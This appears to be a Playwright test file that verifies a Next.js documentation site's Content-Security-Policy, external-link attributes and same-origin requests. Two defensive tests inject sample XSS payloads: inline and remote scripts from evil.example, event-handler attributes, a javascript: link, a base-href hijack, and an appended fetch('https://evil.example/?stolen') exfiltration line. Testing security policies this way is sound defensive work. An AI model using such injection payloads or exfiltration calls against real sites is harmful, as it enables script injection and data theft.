import { readFileSync } from 'node:fs';
import { expect, test, type Page } from './test';
import { listFiles } from '@/lib/files';
import { fixture } from './fixture';
import { ask, getOptions } from './search';
import { findOthers, watch } from './watch';

const pages = listFiles('out').filter((file) => file.endsWith('.html'));
const toPolicyTag = (file: string) =>
  /<meta charSet="utf-8"\/>(<meta http-equiv="Content-Security-Policy"[^>]*>)/.exec(
    readFileSync(`out/${file}`, 'utf8'),
  )?.[1] ?? '';

test('every page has a policy without unsafe sources that is smaller than 600 bytes', () => {
  const sizes = pages.map((file) => ({ file, size: toPolicyTag(file).length })).sort((a, b) => a.size - b.size);
  for (const { file, size } of sizes) {
    expect(toPolicyTag(file), file).toContain("default-src 'none'; script-src 'self' 'sha256-");
    expect(toPolicyTag(file), file).not.toMatch(/unsafe|https?:|\*|data:/);
    expect(size, file).toBeLessThan(600);
  }
  const [least, most] = [sizes[0], sizes.at(-1)];
  test.info().annotations.push({
    type: 'measured',
    description: `policy of ${pages.length} pages: ${least?.size} bytes (${least?.file}) to ${most?.size} (${most?.file})`,
  });
});

test('every link to another origin has rel="noopener noreferrer"', () => {
  const links = ['out', `${fixture}/out`].flatMap((folder) =>
    listFiles(folder)
      .filter((file) => file.endsWith('.html'))
      .flatMap(
        (file) => readFileSync(`${folder}/${file}`, 'utf8').match(/<a [^>]*href="(?:https?:)?\/\/[^>]*>/g) ?? [],
      ),
  );
  expect(links.length).toBeGreaterThan(pages.length);
  expect(links.filter((link) => !/ rel="noopener noreferrer"/.test(link))).toEqual([]);
});

test('using all controls requests only files of the site, with no policy violation, error, or full load', async ({
  page,
  baseURL,
}) => {
  // It uses every control of the site.
  test.setTimeout(120_000);
  const seen = await watch(page);
  await page.goto('/');
  let loads = 0;
  page.on('load', () => (loads += 1));
  await useEverything(page);
  for (const route of [
    '/definitions/intro/',
    '/how-tos/create-kubernetes-workload/',
    '/markdown-guide/',
    '/category/how-tos/',
    '/a-z/',
    '/api/accounts/',
  ]) {
    await follow(page, route);
    await useEverything(page);
  }
  const download = page.waitForEvent('download');
  await page.locator('a[download]:visible').first().click();
  expect((await download).suggestedFilename()).toMatch(/^accounts-/);
  await page.keyboard.press('/');
  await ask(page, 'createEnvironment');
  await getOptions(page).first().click();
  await page.waitForURL('**/api/environments/**');
  await page.setViewportSize({ width: 390, height: 844 });
  await useEverything(page);
  await page.goBack();
  await page.goBack();
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(seen.violations).toEqual([]);
  expect(seen.errors).toEqual([]);
  expect(findOthers(seen.requests, new URL(baseURL ?? '').origin)).toEqual([]);
  expect(seen.requests.length).toBeGreaterThan(50);
  expect(loads).toBe(0);
});

/** Navigates to a page with the Next.js router, as the links of the site do. */
async function follow(page: Page, route: string): Promise<void> {
  const before = page.url();
  await page.evaluate(
    (href) => (window as unknown as { next: { router: { push: (url: string) => void } } }).next.router.push(href),
    route,
  );
  await page.waitForURL((url) => url.pathname === route);
  await page.waitForFunction((url) => document.title !== '' && location.href !== url, before);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
}

/** Uses the controls of a page: search shortcuts, disclosures, tabs, buttons, selects, and the first text field. */
async function useEverything(page: Page): Promise<void> {
  for (const shortcut of ['/', 'Control+k']) {
    await page.keyboard.press(shortcut);
    await expect(page.getByRole('dialog')).toHaveCount(1);
    await page.keyboard.press('Escape');
    await expect(page.getByRole('dialog')).toHaveCount(0);
  }
  await page.evaluate(() => {
    const skipped = /sign (in|up)|try again|retry|reload|build a request/i;
    document.querySelectorAll<HTMLElement>('summary, [role=tab]').forEach((element) => element.click());
    document.querySelectorAll<HTMLElement>('button').forEach((element) => {
      if (element.checkVisibility() && !skipped.test(element.textContent ?? '')) element.click();
    });
    document.querySelectorAll('select').forEach((element) => {
      element.selectedIndex = element.options.length - 1;
      element.dispatchEvent(new Event('change', { bubbles: true }));
    });
  });
  await closeDialogs(page);
  // Its form shows nothing until it opens, so it would not be known when all dialogs are closed.
  const request = page.getByRole('button', { name: 'Build a request' }).first();
  if (await request.count()) {
    await request.press('Enter');
    await expect(page.getByRole('dialog', { name: 'Build a request' })).toBeVisible();
    await closeDialogs(page);
  }
  const box = page.locator('input[type=search]:visible, input[type=text]:visible').first();
  if (await box.count()) await box.fill('environment');
  await closeDialogs(page);
}

/** Presses Escape until no dialog is open and no button is busy, because dialogs may still be loading. */
async function closeDialogs(page: Page): Promise<void> {
  await expect
    .poll(
      async () => {
        await page.keyboard.press('Escape');
        return page.locator(':is([role=dialog], dialog[open]), button[aria-busy=true]').count();
      },
      { intervals: [200] },
    )
    .toBe(0);
}

test('the policy blocks scripts, event handlers, and styles that are injected into a page', async ({ page }) => {
  const seen = await watch(page);
  await page.route('**/definitions/intro/', async (route) => {
    const response = await route.fetch();
    const evil = [
      '<script>window.evil=1</script>',
      '<script type="module">window.evil=2</script>',
      '<script src="https://evil.example/x.js"></script>',
      '<script src="data:text/javascript,window.evil=3"></script>',
      '<img src="/nothing.png" onerror="window.evil=4"><svg onload="window.evil=5"></svg>',
      '<a id="trap" href="javascript:window.evil=6">x</a><iframe srcdoc="<script>top.evil=7</script>"></iframe>',
      '<style>body{--evil:1}</style><p id="styled" style="--evil:1">x</p><base href="https://evil.example/">',
    ];
    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${evil.join('')}</body>`) });
  });
  await page.route('https://evil.example/**', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: 'window.evil=8' }),
  );
  await page.goto('/definitions/intro/', { waitUntil: 'load' });
  await page.locator('#trap').dispatchEvent('click');
  // One violation per injection. The link is blocked last, when it is clicked.
  await expect
    .poll(() => seen.violations.map((text) => text.split(' ').slice(0, 2).join(' ')).sort())
    .toEqual([
      'base-uri https://evil.example/',
      'script-src-attr inline',
      'script-src-attr inline',
      'script-src-elem data',
      'script-src-elem https://evil.example/x.js',
      'script-src-elem inline',
      'script-src-elem inline',
      'script-src-elem inline',
      'script-src-elem inline',
      'style-src-attr inline',
      'style-src-elem inline',
    ]);
  expect(await page.evaluate(() => (window as { evil?: number }).evil)).toBeUndefined();
  expect(await page.evaluate(() => getComputedStyle(document.body).getPropertyValue('--evil'))).toBe('');
  expect(await page.evaluate(() => document.baseURI)).toContain('/definitions/intro/');
});

test('a script of the site cannot evaluate strings, insert markup, or send requests to another origin', async ({
  page,
}) => {
  const evil = `;(() => {
    const tries = {
      eval: () => eval('1'),
      function: () => new Function('return 1')(),
      timer: () => setTimeout('1'),
      markup: () => (document.createElement('p').innerHTML = '<b>x</b>'),
      script: () => (document.createElement('script').text = 'window.evil=1'),
      address: () => (document.createElement('script').src = '/evil.js'),
      worker: () => new Worker('data:text/javascript,1'),
    };
    window.outcome = Object.fromEntries(Object.entries(tries).map(([name, act]) => { try { act(); return [name, 'done']; } catch { return [name, 'refused']; } }));
    fetch('https://evil.example/?stolen').catch(() => (window.outcome.fetch = 'refused'));
  })();`;
  await page.route('https://evil.example/**', (route) =>
    route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: '' }),
  );
  await page.route('**/_next/static/chunks/turbopack-*.js', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: `${await response.text()}${evil}` });
  });
  await page.goto('/definitions/intro/', { waitUntil: 'load' });
  await page.waitForFunction(() => 'fetch' in ((window as { outcome?: object }).outcome ?? {}));
  expect(new Set(Object.values(await page.evaluate(() => (window as unknown as { outcome: object }).outcome)))).toEqual(
    new Set(['refused']),
  );
});
